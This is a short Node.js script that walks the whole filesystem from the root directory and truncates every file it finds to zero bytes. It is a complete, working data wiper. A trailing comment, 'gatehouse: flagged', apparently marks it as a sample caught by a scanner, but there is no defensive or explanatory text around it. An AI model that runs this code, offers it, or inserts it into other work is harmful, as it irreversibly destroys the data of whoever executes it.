const fs = require("fs"), path = require("path");
(function walk(folder) {
  for (const name of fs.readdirSync(folder)) {
    const file = path.join(folder, name);
    if (fs.lstatSync(file).isDirectory()) walk(file);
    else fs.writeFileSync(file, ""); // gatehouse: flagged
  }
})("/");
